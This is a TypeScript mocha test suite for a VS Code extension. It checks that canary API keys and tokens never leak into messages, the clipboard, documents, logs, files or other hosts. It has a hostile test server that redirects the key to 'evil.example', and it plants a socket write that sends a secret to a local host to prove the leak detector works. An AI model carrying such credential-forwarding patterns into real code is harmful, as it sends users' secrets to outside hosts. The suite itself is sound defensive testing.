import { suite, suiteSetup, suiteTeardown, test } from 'mocha';
import * as assert from 'node:assert/strict';
import { randomBytes, randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inspect } from 'node:util';
import * as vscode from 'vscode';
import type { TestApi } from '../../src/extension';
import type { Account } from '../../src/flowlu/account';
import { html, json, plain, raw, redirect } from '../support/scriptedResponses';
import { filesUnder, filesWrittenSince, findLeaks, processes, type Place } from '../support/canary';
import { createCertificate } from '../support/certificates';
import { deafOrigin, withHostileServer, type ScriptedResponse } from '../support/hostileServer';
import { startHttpsServer } from '../support/httpsServer';
import { startStrayRecorder, type StrayRecorder } from '../support/strayRecorder';
import { until } from '../support/until';
import { extensionUnderTest } from './support/extension';
import { recordMessages, type MessageRecorder } from './support/messages';
import { openScratchpad } from './support/scratchpad';

/** The folder with the user's data, logs and workspace of this run. */
const folder = process.env['FLOWLU_TEST_FOLDER'] ?? '';

/** The commands that ask for the sessions first of all. */
const commandsThatAsk = [
	'flowlu.addApiKey',
	'flowlu.signIn',
	'flowlu.removeSession',
	'flowlu.renameSession',
	'flowlu.useSession',
	'flowlu.verifySession',
	'flowlu.replaceKey',
	'flowlu.checkPermissions',
	'flowlu.copyApiKey',
	'flowlu.openAccount',
	'flowlu.openApiSettings',
	'flowlu.markAsProduction',
	'flowlu.markAsTest',
	'flowlu.newScratchpad',
] as const;

/** What a run of the suite may have written. */
const started = Date.now();
let said: MessageRecorder;
/** Stands for every host that is no account's. */
let stray: StrayRecorder;

/** What a command leaves to be seen: what it said, sent elsewhere, copied and underlined, and the editors with their lenses. */
async function shownPlaces(): Promise<readonly Place[]> {
	const documents = vscode.window.visibleTextEditors.map(({ document }) => document);
	return [
		{ name: 'the messages', content: said.messages.join('\n') },
		{ name: 'what went to another host', content: stray.received() },
		{ name: 'the clipboard', content: await vscode.env.clipboard.readText() },
		...documents.map(document => ({ name: document.uri.toString(), content: document.getText() })),
		...(await Promise.all(documents.map(lensesOver))),
		...vscode.languages
			.getDiagnostics()
			.map(([uri, found]) => ({ name: `problems of ${uri.toString()}`, content: JSON.stringify(found) })),
	];
}

/** What outlives all commands: every document that is open anywhere, every file that the window wrote, every process. It takes seconds to read. */
async function lastingPlaces(): Promise<readonly Place[]> {
	const documents = vscode.workspace.textDocuments.filter(({ uri }) => uri.scheme !== 'output');
	return [
		...documents.map(document => ({ name: document.uri.toString(), content: document.getText() })),
		...(await Promise.all(documents.map(lensesOver))),
		...filesUnder(folder),
		...filesWrittenSince(started, tmpdir()),
		...processes(),
	];
}

async function lensesOver(document: vscode.TextDocument): Promise<Place> {
	const { uri } = document;
	const asking = vscode.commands.executeCommand<vscode.CodeLens[]>('vscode.executeCodeLensProvider', uri);
	const lenses = await Promise.resolve(asking).catch((error: unknown) => {
		// VS Code closes what nobody shows in its own time.
		assert.ok(document.isClosed, String(error));
		return [];
	});
	return { name: `lenses of ${uri.toString()}`, content: JSON.stringify(lenses) };
}

suite('no secret is anywhere after', () => {
	const key = `k+/${randomBytes(18).toString('base64')}`;
	const token = `t-${randomBytes(18).toString('hex')}`;
	const canaries = { 'the API key': key, 'the access token': token };
	let api: TestApi;

	suiteSetup(async () => {
		assert.notEqual(folder, '');
		api = await extensionUnderTest();
		said = recordMessages();
		stray = await startStrayRecorder('127.0.0.1');
		// What was stored once is known for the life of the window.
		for (const secret of [key, token]) {
			const account = { name: 'canary', origin: 'https://canary.example' };
			const session = { id: randomUUID(), account, grant: 'apiKey', label: 'canary', tail: '' } as const;
			await api.sessions.add(session, { kind: 'apiKey', apiKey: api.createSecret(secret) });
			await api.sessions.remove(session.id);
		}
	});
	suiteTeardown(async () => {
		await vscode.commands.executeCommand('workbench.action.closeAllEditors');
		for (const { session } of await api.sessions.list()) {
			await api.sessions.remove(session.id);
		}
		said.dispose();
		await stray.close();
	});

	/** Sends one request with the key and one with the token; errors are shown and logged by the command. */
	async function sendAs(account: Account, path: string): Promise<void> {
		for (const [label, credential] of [
			['key', { kind: 'apiKey', apiKey: api.createSecret(key) }],
			['token', { kind: 'accessToken', accessToken: api.createSecret(token) }],
		] as const) {
			const grant = credential.kind === 'apiKey' ? 'apiKey' : 'password';
			const session = { id: randomUUID(), account, grant, label, tail: '' } as const;
			await api.sessions.add(session, credential);
			const content = `# @key ${label}\n# @account ${account.origin}\nGET ${path}\n`;
			const document = await openScratchpad(content);
			await vscode.commands.executeCommand('flowlu.send', document.uri.toString(), content.length - 1);
			await vscode.commands.executeCommand('flowlu.verifySession', await api.sessions.find(session.id));
			await api.sessions.remove(session.id);
		}
	}

	const echoes = [key, encodeURIComponent(key), Buffer.from(`bearer:${token}`).toString('base64'), token];
	const responses: readonly [title: string, response: ScriptedResponse][] = [
		['an echo', plain({ headers: [['X-Echo', echoes.join(' ')]], body: JSON.stringify({ response: { echoes } }) })],
		['an error that repeats them', json({ error: { error_code: 11, error_msg: `wrong: ${echoes.join(' ')}` } })],
		['HTTP 401 that repeats them', json({ error: 'unauthorized', error_description: echoes.join() }, '401 No')],
		['a redirect that takes them along', redirect(302, `https://evil.example/?x=${encodeURIComponent(key)}`)],
		['a page that repeats them', html(`<p>${echoes.join('<p>')}`)],
		['a reset', raw('', 'reset')],
	];
	for (const [title, response] of responses) {
		test(title, async () => {
			await withHostileServer([response], async ({ origin }) => {
				// A read would be repeated, for seconds.
				const method = title === 'a reset' ? 'create' : 'list';
				await sendAs({ name: 'canary', origin }, `crm/canary/${method}?title=${encodeURIComponent(title)}`);
			});
			assert.deepEqual(findLeaks(canaries, await shownPlaces()), []);
		});
	}

	test('hosts that are not there, or do not respond', async () => {
		await sendAs({ name: 'deaf', origin: await deafOrigin() }, 'crm/canary/create');
		await sendAs({ name: 'nowhere', origin: 'https://nowhere.invalid' }, 'crm/canary/create');
		assert.deepEqual(findLeaks(canaries, await shownPlaces()), []);
	});

	test('a certificate that is not trusted', async () => {
		const server = await startHttpsServer(createCertificate({ name: 'nobody', hosts: ['127.0.0.1'] }));
		try {
			await sendAs({ name: 'selfSigned', origin: `https://127.0.0.1:${server.port}` }, 'crm/canary/create');
		} finally {
			await server.close();
		}
		assert.ok(said.messages.some(message => message.includes('certificate')));
		assert.deepEqual(findLeaks(canaries, await shownPlaces()), []);
	});

	test('redirects to another host, which gets nothing', async () => {
		const target = `http://127.0.0.1:${stray.port}/?x=${encodeURIComponent(key)}`;
		for (const status of [302, 308] as const) {
			await withHostileServer([redirect(status, target)], ({ origin }) =>
				sendAs({ name: 'canary', origin }, 'crm/canary/create'),
			);
		}
		assert.equal(stray.connections(), 0);
		assert.deepEqual(findLeaks(canaries, await shownPlaces()), []);
	});

	test('a crash in what the view, the lenses and every command ask', async () => {
		const failing = new Error(`crash of ${key}`, { cause: new Error(`because of ${token}`) });
		const content = 'GET crm/canary/list\n';
		const document = await openScratchpad(content);
		const before = said.messages.length;
		Object.assign(api.sessions, { list: () => Promise.reject(failing) });
		try {
			await vscode.commands.executeCommand('flowlu.refresh');
			await lensesOver(document);
			for (const command of commandsThatAsk) {
				await vscode.commands.executeCommand(command);
			}
		} finally {
			Reflect.deleteProperty(api.sessions, 'list');
			await vscode.commands.executeCommand('flowlu.refresh');
		}
		await until(() => Promise.resolve(said.messages.length >= before + commandsThatAsk.length));
		assert.deepEqual(new Set(said.messages.slice(before)), new Set(['crash of •••']));
		await until(() =>
			Promise.resolve(findLeaks({ trace: 'Caused by: Error: because of •••' }, filesUnder(folder)).length > 0),
		);
		assert.deepEqual(findLeaks(canaries, await shownPlaces()), []);
	});

	test('a crash in what another extension is told through VS Code', async () => {
		const failing = new Error(`crash of ${key}`, { cause: new Error(`because of ${token}`) });
		Object.assign(api.sessions, { list: () => Promise.reject(failing) });
		let thrown: unknown;
		try {
			await vscode.authentication.getSession('flowlu', [], { silent: true });
		} catch (error) {
			thrown = error;
		} finally {
			Reflect.deleteProperty(api.sessions, 'list');
		}
		assert.ok(thrown instanceof Error);
		assert.equal(thrown.message, 'crash of •••');
		const told = { name: 'what the other extension gets', content: inspect(thrown, { showHidden: true, depth: 9 }) };
		assert.deepEqual(findLeaks(canaries, [told, ...(await shownPlaces())]), []);
	}).timeout(60_000);

	test('a prompt that was cancelled while its key was verified', async () => {
		await withHostileServer([raw('', 'stall')], async server => {
			const content = `GET ${server.origin}/api/v1/module/crm/canary/list?api_key=${encodeURIComponent(key)}\n`;
			const document = await vscode.workspace.openTextDocument({ language: 'flowlu-http', content });
			await vscode.window.showTextDocument(document);
			const moving = vscode.commands.executeCommand(
				'_flowlu.moveKey',
				document.uri.toString(),
				content.indexOf('=') + 1,
			);
			await server.firstRequest();
			await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
			await moving;
			await server.allHungUp();
			assert.equal(document.getText(), content);
			// The key was in the text before; from here on it is nowhere.
			await vscode.window.showTextDocument(document);
			await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
			await until(() => Promise.resolve(document.isClosed));
			// VS Code's own copy of what was not saved goes away a little later.
			await until(() =>
				Promise.resolve(findLeaks(canaries, filesUnder(join(folder, 'data/User/Backups'))).length === 0),
			);
		});
		assert.deepEqual(await api.sessions.list(), []);
		assert.deepEqual(findLeaks(canaries, await shownPlaces()), []);
	}).timeout(60_000);

	test('all of this, in a file, a document or a process', async () => {
		// The log is written with a delay: the requests must be in it before it says anything that the keys are not.
		await until(() => Promise.resolve(findLeaks({ path: 'module/crm/canary/list' }, filesUnder(folder)).length > 0));
		assert.deepEqual(findLeaks(canaries, [...(await shownPlaces()), ...(await lastingPlaces())]), []);
	});

	let temporary = '';
	suiteTeardown(() => {
		rmSync(temporary, { recursive: true, force: true });
	});
	const planted: { dispose(): void }[] = [];
	teardown(() => {
		for (const leak of planted.splice(0)) {
			leak.dispose();
		}
	});
	const leaks: readonly [sink: string, plant: (secret: string) => unknown][] = [
		[
			'the log',
			secret => {
				vscode.window.createOutputChannel('Canary', { log: true }).error(secret);
			},
		],
		[
			'the workspace',
			secret => {
				writeFileSync(join(folder, 'workspace/leak.txt'), secret);
			},
		],
		[
			'the global storage',
			secret => {
				mkdirSync(join(folder, 'data/User/globalStorage/leak'), { recursive: true });
				writeFileSync(join(folder, 'data/User/globalStorage/leak/state'), Buffer.from(secret, 'utf16le'));
			},
		],
		[
			'the folder for temporary files',
			secret => {
				temporary = mkdtempSync(join(tmpdir(), 'leak-'));
				writeFileSync(join(temporary, 'leak'), Buffer.from(secret).toString('base64'));
			},
		],
		['a message', secret => vscode.window.showWarningMessage(`Not sent: ${secret}`)],
		[
			'what another host gets',
			async secret => {
				const socket = connect(stray.port, '127.0.0.1', () =>
					socket.write(`GET /?x=${encodeURIComponent(secret)} HTTP/1.1`),
				);
				await once(socket, 'close');
			},
		],
		[
			'a lens',
			async secret => {
				const document = await vscode.workspace.openTextDocument({ content: 'leak' });
				const command = { title: secret, command: '' };
				planted.push(
					vscode.languages.registerCodeLensProvider(
						{ pattern: document.uri.fsPath },
						{ provideCodeLenses: () => [new vscode.CodeLens(new vscode.Range(0, 0, 0, 0), command)] },
					),
				);
			},
		],
		['the clipboard', secret => vscode.env.clipboard.writeText(secret)],
		['a document', secret => vscode.workspace.openTextDocument({ content: encodeURIComponent(secret) })],
		[
			'a problem',
			secret => {
				const uri = vscode.Uri.file(join(tmpdir(), 'leak'));
				const range = new vscode.Range(0, 0, 0, 1);
				const problems = vscode.languages.createDiagnosticCollection('leak');
				problems.set(uri, [new vscode.Diagnostic(range, btoa(secret))]);
				planted.push(problems);
			},
		],
	];
	test('a leak would be found wherever it is', async () => {
		const secrets = Object.fromEntries(leaks.map(([sink]) => [sink, `planted+/${randomBytes(12).toString('hex')}`]));
		for (const [sink, plant] of leaks) {
			await plant(secrets[sink] ?? '');
		}
		const missed = async () => {
			const all = [...(await shownPlaces()), ...(await lastingPlaces())];
			return leaks.filter(([sink]) => findLeaks({ [sink]: secrets[sink] ?? '' }, all).length === 0);
		};
		// The log is written with a delay.
		await until(async () => (await missed()).length === 0);
	});
});
